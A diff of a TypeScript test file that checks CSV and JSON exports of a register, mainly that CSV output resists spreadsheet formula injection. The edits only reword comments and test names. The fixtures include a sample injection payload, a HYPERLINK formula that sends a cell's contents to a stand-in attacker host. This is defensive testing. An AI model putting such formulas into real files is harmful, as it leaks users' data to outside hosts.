@@ -5,7 +5,7 @@ import { registerFile, type RegisterFileOptions } from '#server/export/register-
 import { parseCsv } from '../support/csv.ts';
 import { convert, lacksLibreOffice } from '../support/libre-office.ts';
 
-/** What spreadsheets take for formulas, or have taken. */
+/** Texts that spreadsheets interpret as formulas, or once did. */
 const FORMULAS = [
 	'=HYPERLINK("https://evil.example/?x="&A1,"Open")',
 	'+1+1',
@@ -63,7 +63,7 @@ describe('the register as CSV', () => {
 	});
 
 	test.for([',', ';'] as const)(
-		'reads back with "%s", whatever the words hold',
+		'parses back with "%s", whatever the words contain',
 		async (delimiter) => {
 			const words = [
 				'a,b;c',
@@ -80,12 +80,12 @@ describe('the register as CSV', () => {
 		}
 	);
 
-	test('begins with a byte order mark only where that is wanted', async () => {
+	test('starts with a byte order mark only on request', async () => {
 		expect((await file([[action('x')]], { bom: true })).match(/\ufeff/g)).toHaveLength(1);
 		expect(await file([[action('x')]])).not.toContain('\ufeff');
 	});
 
-	test('holds no cell that a spreadsheet would take for a formula', async () => {
+	test('has no cell that a spreadsheet would interpret as a formula', async () => {
 		const cells = parseCsv(await file([hostile])).flat();
 		expect(cells.filter((cell) => /^\s*[=+\-@\t\r\u0000\ufeff＝＋－＠]/.test(cell))).toEqual([]);
 		expect(cells.filter((cell) => cell.startsWith("'="))).not.toEqual([]);
@@ -97,7 +97,7 @@ describe('the register as CSV', () => {
 		const sheet = await opened(await file([hostile]));
 		expect(sheet).toContain('HYPERLINK'); // as text
 		expect(sheet).not.toMatch(/table:formula|xlink:href="https:\/\/evil/);
-		// The same words without protection are a formula: the test would see one.
+		// Unprotected words are a formula, so the test would notice one.
 		expect(await opened('Action\r\n=1+1\r\n')).toMatch(/table:formula/);
 	}, 120_000);
 });
@@ -116,12 +116,12 @@ describe('the register as JSON', () => {
 		expect(text).not.toMatch(/mayEdit|moves/);
 	});
 
-	test('is whole when there is nothing in it', async () => {
+	test('is valid if empty', async () => {
 		expect(JSON.parse(await file([], { format: 'json' }))).toMatchObject({ actions: [] });
 	});
 });
 
-/** What LibreOffice makes of a CSV file, as the XML that it keeps a sheet in. */
+/** A CSV file as opened by LibreOffice, in its flat XML format. */
 async function opened(csv: string): Promise<string> {
 	const filter = 'CSV:44,34,76,1,,0,false,true,false,false,false,-1,true';
 	return (await convert('sheet.csv', csv, 'fods', filter)).toString('utf8');
